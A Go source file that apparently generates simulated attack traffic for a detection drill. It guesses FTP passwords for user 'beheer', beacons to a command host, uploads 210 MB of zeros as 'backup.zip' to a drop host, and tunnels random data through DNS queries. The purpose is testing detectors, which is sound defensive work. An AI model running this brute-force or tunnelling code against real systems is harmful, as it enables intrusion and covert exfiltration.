package drill

import (
	"bufio"
	"context"
	"crypto/rand"
	"encoding/base32"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"time"
)

const (
	guesses     = 40
	beaconEvery = 2500 * time.Millisecond
	uploadSize  = 210_000_000 // above the 200 MB in an hour that the detector asks for
	tunnelZone  = "relay-drill.example"
)

func dial(ctx context.Context, network string, a netip.Addr, port uint16) (net.Conn, error) {
	d := net.Dialer{Timeout: 5 * time.Second}
	return d.DialContext(ctx, network, netip.AddrPortFrom(a, port).String())
}

// guess tries passwords, four a connection as most FTP servers allow.
func guess(ctx context.Context) error {
	for n := 0; n < guesses; n += 4 {
		if err := guessSome(ctx, n); err != nil {
			return err
		}
		if !sleep(ctx, 500*time.Millisecond) {
			return nil
		}
	}
	<-ctx.Done()
	return nil
}

func guessSome(ctx context.Context, n int) error {
	c, err := dial(ctx, "tcp4", fileServer, 21)
	if err != nil {
		return err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	r := bufio.NewReader(c)
	if _, err := r.ReadString('\n'); err != nil {
		return err
	}
	for i := range 4 {
		for _, line := range []string{"USER beheer\r\n", fmt.Sprintf("PASS zomer%d\r\n", n+i)} {
			if _, err := io.WriteString(c, line); err != nil {
				return err
			}
			if _, err := r.ReadString('\n'); err != nil {
				return err
			}
		}
	}
	_, err = io.WriteString(c, "QUIT\r\n")
	return err
}

// beacon asks for orders over a new connection each time.
func beacon(ctx context.Context) error {
	client := &http.Client{
		Timeout:   5 * time.Second,
		Transport: &http.Transport{DisableKeepAlives: true},
	}
	url := "http://" + beaconHost.String() + "/status"
	for {
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
		if err != nil {
			return err
		}
		if res, err := client.Do(req); err == nil {
			io.Copy(io.Discard, res.Body)
			res.Body.Close()
		} else if ctx.Err() == nil {
			return err
		}
		if !sleep(ctx, beaconEvery) {
			return nil
		}
	}
}

// upload sends the loot.
func upload(ctx context.Context) error {
	if !sleep(ctx, 3*time.Second) {
		return nil
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPut, "http://"+dropHost.String()+":8080/backup.zip", io.LimitReader(loot{}, uploadSize))
	if err != nil {
		return err
	}
	req.ContentLength = uploadSize
	client := &http.Client{Transport: &http.Transport{DisableKeepAlives: true}}
	res, err := client.Do(req)
	if err != nil {
		return err
	}
	res.Body.Close()
	<-ctx.Done()
	return nil
}

// loot is zeros: what is sent does not matter, how much does.
type loot struct{}

func (loot) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

// tunnel carries random bytes in names, twenty queries a second.
func tunnel(ctx context.Context) error {
	c, err := dial(ctx, "udp4", nameServer, 53)
	if err != nil {
		return err
	}
	defer c.Close()
	answer := make([]byte, 1500)
	for n := uint16(1); ; n++ {
		if _, err := c.Write(question(n, tunnelName())); err != nil {
			return err
		}
		c.SetReadDeadline(time.Now().Add(time.Second))
		c.Read(answer) // an answer that is lost is asked for with the next name
		if !sleep(ctx, 50*time.Millisecond) {
			return nil
		}
	}
}

func tunnelName() string {
	var data [60]byte
	rand.Read(data[:])
	text := strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString(data[:]))
	return text[:48] + "." + text[48:96] + "." + tunnelZone
}

// question is a DNS query for a TXT record (RFC 1035).
func question(id uint16, name string) []byte {
	b := binary.BigEndian.AppendUint16(nil, id)
	b = append(b, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0)
	for label := range strings.SplitSeq(name, ".") {
		b = append(append(b, byte(len(label))), label...)
	}
	return append(b, 0, 0, 16, 0, 1)
}
